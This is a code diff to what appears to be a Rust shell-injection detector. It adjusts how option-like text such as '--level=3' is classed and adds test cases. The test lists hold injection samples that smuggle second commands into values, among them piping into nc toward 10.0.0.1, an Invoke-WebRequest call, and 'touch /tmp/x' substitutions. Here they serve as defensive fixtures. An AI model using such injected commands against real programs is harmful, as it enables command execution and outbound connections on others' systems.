@@ -373,7 +373,8 @@ fn is_datum(shell: Shell<'_>, command: &Command) -> bool {
     // `Paris && sleep 5`, `/dev/null; touch /tmp/x`
     let named =
         matches!(text, [first, rest @ ..] if first.is_ascii_uppercase() && rest.iter().all(u8::is_ascii_lowercase));
-    if text.starts_with(b"/dev/") {
+    // `--level=3 | nc 10.0.0.1 9`: options for a program that somebody else named.
+    if text.starts_with(b"/dev/") || text.starts_with(b"--") && memchr::memchr(b'=', text).is_some() {
         return true;
     }
     (dotted || named || text.len() == 1 || text.iter().all(u8::is_ascii_digit) && !text.is_empty())
@@ -432,6 +433,7 @@ mod tests {
             "x$(touch /tmp/x)",
             "10.0.0.1 | Get-Process",
             "10.0.0.1; Invoke-WebRequest http://x.example",
+            "--level=3 | nc 10.0.0.1 9",
         ] {
             assert!(found(text, Within::Nothing, Suffix::Evident), "{text}");
         }
@@ -484,9 +486,17 @@ mod tests {
         ] {
             assert!(!found(text, Within::Nothing, Suffix::Data), "{text}");
         }
-        for text in
-            ["foo; bar", "import os; import sys", "| head 5", "| grep foo", "ls | grep foo", "cd x; ls -la", "a || b"]
-        {
+        for text in [
+            "foo; bar",
+            "--a=1 | grep foo",
+            "--a=1; --b=2",
+            "import os; import sys",
+            "| head 5",
+            "| grep foo",
+            "ls | grep foo",
+            "cd x; ls -la",
+            "a || b",
+        ] {
             assert!(!found(text, Within::Nothing, Suffix::Evident), "{text}");
         }
     }
